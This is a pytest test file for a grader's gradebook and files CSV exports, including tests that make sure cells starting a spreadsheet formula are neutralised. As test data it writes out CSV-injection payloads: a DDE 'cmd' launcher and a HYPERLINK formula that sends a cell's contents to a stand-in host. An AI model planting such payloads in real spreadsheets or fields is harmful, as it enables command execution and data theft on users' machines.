"""``gradebook.csv`` (SPEC contract), ``files.csv`` and what keeps a spreadsheet from running a cell."""

from __future__ import annotations

import csv
import io

import pytest

from grader.assignment import load_assignment
from grader.engine.variants import default_variant
from grader.gradebook import build_gradebook
from grader.grading import grade_class
from grader.key import compute_key
from grader.overrides import Override
from grader.report.files import safe_cell
from grader.report.gradebook_csv import files_csv, gradebook_csv, points_text
from grader.roster import Roster, RosterEntry
from grader.submissions.records import (
    Answer,
    Batch,
    Rejection,
    Skipped,
    Source,
    Submission,
)

ASSIGNMENT = load_assignment("answer_keys/practice09.yaml")
NUMERIC = [q.id for q in ASSIGNMENT.numeric_questions]
SHEET_ORDER = (
    "s1 s2 a1 a2 s3 s4 a3 a4 y_hat E dE_dw5 dE_dw9 dE_dw1 w5_new w1_new dE_dw2 dE_dw4 dE_dw7 dE_dw10 dE_dw13"
    " exp_dog exp_cat exp_boat exp_airplane p_dog p_cat p_boat p_airplane loss"
).split()


def graded(student_id: str, change: dict[str, float] | None = None):
    key = compute_key(ASSIGNMENT, default_variant(ASSIGNMENT, student_id))
    values = {**key.answers(0), **(change or {})}
    file = f"{student_id}.yaml"
    answers = {q: Answer(q, repr(v), v, None, Source(file)) for q, v in values.items()}
    return grade_class(ASSIGNMENT, key, [Submission(student_id, file, answers)])[0]


def roster(entries: dict[str, str]) -> Roster:
    return Roster("roster.csv", tuple(RosterEntry(s, n, i) for i, (s, n) in enumerate(entries.items(), 2)),
                  "student_id")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture(scope="module")
def book():
    rejection = Rejection("R3.csv", "R3.csv, line 2: no answers", "R3")
    return build_gradebook(ASSIGNMENT, [graded("G1"), graded("G2", {"s1": 9.0})], Batch(rejections=(rejection,)),
                           roster({"G1": "", "G2": "", "M4": "", "R3": ""}))


def test_the_numeric_question_columns_are_the_sheets():
    assert NUMERIC == SHEET_ORDER


def test_the_header_is_the_contract_without_names(book):
    header = read(gradebook_csv(book))[0]
    assert header == ["student_id", *SHEET_ORDER, "total", "max_total", "percent", "status", "reason", "similar_to",
                      "auto_total", "files"]


def test_the_header_has_a_name_column_when_the_roster_has_names():
    book = build_gradebook(ASSIGNMENT, [graded("G1")], Batch(), roster({"G1": "Ada Lovelace", "G2": ""}))
    table = read(gradebook_csv(book))
    assert table[0] == ["student_id", *SHEET_ORDER, "total", "max_total", "percent", "status", "reason",
                        "similar_to", "auto_total", "name", "files"]
    assert dict(zip(table[0], table[1]))["name"] == "Ada Lovelace"


def test_a_graded_row_holds_points_totals_and_percent(book):
    rows = {r[0]: dict(zip(read(gradebook_csv(book))[0], r)) for r in read(gradebook_csv(book))[1:]}
    full, one_off = rows["G1"], rows["G2"]
    assert [full[q] for q in SHEET_ORDER] == ["1"] * 29
    assert (full["total"], full["max_total"], full["percent"], full["status"]) == ("29", "29", "100.00", "graded")
    assert one_off["s1"] == "0" and one_off["a1"] == "1"  # a1 earns follow-through from the wrong s1
    assert (one_off["total"], one_off["percent"]) == ("28", "96.55")
    assert full["files"] == "G1.yaml"


def test_missing_and_rejected_rows_have_empty_question_cells(book):
    table = read(gradebook_csv(book))
    rows = {r[0]: dict(zip(table[0], r)) for r in table[1:]}
    assert [r[0] for r in table[1:]] == ["G1", "G2", "M4", "R3"]
    for student, status in (("M4", "missing"), ("R3", "rejected")):
        row = rows[student]
        assert row["status"] == status
        assert [row[q] for q in SHEET_ORDER] == [""] * 29
        assert (row["total"], row["max_total"], row["percent"]) == ("0", "29", "0.00")
    assert rows["M4"]["reason"] == "nothing handed in"
    assert "line 2: no answers" in rows["R3"]["reason"] and rows["R3"]["files"] == "R3.csv"


def test_an_override_shows_in_its_cell_and_the_total():
    book = build_gradebook(ASSIGNMENT, [graded("G1")], Batch(), overrides=[Override("G1", "s2", 0.5)])
    table = read(gradebook_csv(book))
    row = dict(zip(table[0], table[1]))
    assert row["s2"] == "0.5" and row["total"] == "28.5" and row["percent"] == "98.28"


@pytest.mark.parametrize(("value", "text"), [
    (None, ""), (1.0, "1"), (0.0, "0"), (0.5, "0.5"), (28.5, "28.5"), (1 / 3, "0.3333"), (2 / 3, "0.6667"),
])
def test_points_are_written_as_people_write_them(value, text):
    assert points_text(value) == text


@pytest.mark.parametrize(("text", "written"), [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("=1+1", "'=1+1"),
    ("+x", "'+x"),
    ("-x", "'-x"),
    ("@x", "'@x"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\tx", "'\tx"),
    ("\r=x", "'\r=x"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("-0.5", "-0.5"),
    ("+1", "+1"),
    ("-1e-3", "-1e-3"),
    ("1e-3", "1e-3"),
    ("0.7", "0.7"),
    ("B12345", "B12345"),
    ("", ""),
    ("a=b", "a=b"),
    ("nothing handed in", "nothing handed in"),
])
def test_safe_cell_neutralises_what_would_start_a_formula(text, written):
    assert safe_cell(text) == written


def test_a_formula_looking_student_id_is_prefixed_in_the_gradebook_and_files():
    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
    rejection = Rejection("=evil.csv", "=evil.csv: +unreadable", evil)
    book = build_gradebook(ASSIGNMENT, [graded(evil)], Batch(rejections=(rejection,),
                                                               skipped=(Skipped("@lock", "-lock file"),)))
    table = read(gradebook_csv(book))
    assert table[1][0] == "'" + evil
    row = dict(zip(table[0], table[1]))
    assert row["reason"] == "also handed in =evil.csv: +unreadable"  # starts with words: left alone
    assert row["files"].startswith("'=")
    for cells in read(files_csv(book))[1:]:
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t")), cells


def test_files_csv_lists_every_file_with_its_status():
    rejection = Rejection("R3.csv", "R3.csv: unreadable", "R3")
    book = build_gradebook(ASSIGNMENT, [graded("G1")], Batch(rejections=(rejection,),
                                                             skipped=(Skipped(".DS_Store", "a hidden file"),)))
    table = read(files_csv(book))
    assert table[0] == ["file", "student_id", "status", "reason"]
    assert sorted(table[1:]) == sorted([
        [".DS_Store", "", "ignored", "a hidden file"],
        ["G1.yaml", "G1", "graded", ""],
        ["R3.csv", "R3", "rejected", "R3.csv: unreadable"],
    ])
